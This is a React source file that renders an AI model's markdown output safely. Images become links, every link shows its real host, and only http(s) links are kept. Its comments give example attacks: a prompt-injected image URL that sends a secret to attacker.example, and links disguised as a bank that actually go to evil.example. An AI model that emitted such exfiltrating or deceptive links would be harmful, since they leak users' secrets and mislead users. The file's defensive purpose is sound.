import { memo, useEffect, useState, type ComponentProps, type ReactNode } from 'react';
import ReactMarkdown, { type Components } from 'react-markdown';
import { splitGrowing } from './markdown-blocks';
import remarkGfm from 'remark-gfm';

function CodeBlock(props: ComponentProps<'pre'>) {
  const [copied, setCopied] = useState(false);
  // As use-copied.ts does, not imported: shared by this lazy chunk and CopyButton's, it made the
  // bundler split React into chunks of its own, 0.7 KB more in the panel's first load.
  useEffect(() => {
    if (!copied) return;
    const timer = setTimeout(() => setCopied(false), 1500);
    return () => clearTimeout(timer);
  }, [copied]);
  const text = extractText(props.children);
  return (
    <div className="code-block">
      <button
        type="button"
        className="copy"
        onClick={() => {
          void navigator.clipboard.writeText(text).then(() => setCopied(true));
        }}
      >
        {copied ? 'Copied' : 'Copy'}
      </button>
      <pre {...props} />
    </div>
  );
}

function extractText(node: unknown): string {
  if (typeof node === 'string' || typeof node === 'number') return String(node);
  if (Array.isArray(node)) return node.map(extractText).join('');
  if (node && typeof node === 'object' && 'props' in node) {
    return extractText((node as { props: { children?: unknown } }).props.children);
  }
  return '';
}

/**
 * An image in model output, shown as a link instead: loading it would send a request the
 * person never asked for, and a prompt-injected answer can put a secret into an image URL
 * (`![x](https://attacker.example/?d=secret)`). A click opens it in a new tab.
 */
function ImageAsLink({ src, alt }: { src?: string | Blob | undefined; alt?: string | undefined }) {
  const label = alt?.trim() || 'image';
  const url = typeof src === 'string' ? safeHttpUrl(src) : undefined;
  if (!url) return <span className="image-link">[{label}]</span>;
  return (
    <a className="image-link" href={url.href} target="_blank" rel="noreferrer noopener">
      [{label}] ({url.host})
    </a>
  );
}

function safeHttpUrl(value: string): URL | undefined {
  try {
    const url = new URL(value);
    return url.protocol === 'https:' || url.protocol === 'http:' ? url : undefined;
  } catch {
    return undefined;
  }
}

/**
 * A link in model output, with where it goes beside its words: a model can word a link to
 * evil.example as "your bank". The host is the URL parser's (after any "@", in punycode). Only
 * http(s) addresses are links; anything else (mailto:, javascript:, a relative path) stays its
 * words.
 */
function LinkWithHost({ href, children }: { href?: string | undefined; children?: ReactNode }) {
  const url = href === undefined ? undefined : safeHttpUrl(href);
  if (!url) return <span className="link-text">{children}</span>;
  const words = extractText(children).trim();
  // An address with a user name (https://bank.example@evil.example/) names one host and goes to
  // another: written out whole, it still does not say where it goes.
  const hidesHost = url.username !== '' || url.password !== '';
  const saysWhere = !hidesHost && (words === url.href || words === href || words === url.host);
  return (
    <>
      <a href={url.href} target="_blank" rel="noreferrer noopener">
        {children}
      </a>
      {saysWhere ? null : <span className="link-host"> ({url.host})</span>}
    </>
  );
}

const COMPONENTS: Components = {
  pre: CodeBlock,
  a: ({ href, children }) => <LinkWithHost href={href}>{children}</LinkWithHost>,
  img: ({ src, alt }) => <ImageAsLink src={src} alt={alt} />,
};
const PLUGINS = [remarkGfm];

/** One top-level block, parsed again only when its own text changes. */
const Block = memo(function Block({ text }: { text: string }) {
  return (
    <ReactMarkdown remarkPlugins={PLUGINS} components={COMPONENTS}>
      {text}
    </ReactMarkdown>
  );
});

/**
 * Markdown (GitHub flavour) for model output; links open outside the panel, and nothing in it
 * loads from the network by itself (no images, no raw HTML). Rendered block by block: while an
 * answer streams in, only its last block grows, so each delta re-parses that block alone
 * instead of the whole answer (see `splitBlocks`).
 */
export function Markdown({ text }: { text: string }) {
  // The previous render's split, kept so a grown text is split again only from its last block.
  const [last, setLast] = useState<ReturnType<typeof splitGrowing>>();
  const split = last?.text === text ? last : splitGrowing(text, last);
  if (split !== last) setLast(split);
  return (
    <div className="markdown">
      {split.blocks.map((block, index) => (
        <Block key={index} text={block} />
      ))}
    </div>
  );
}
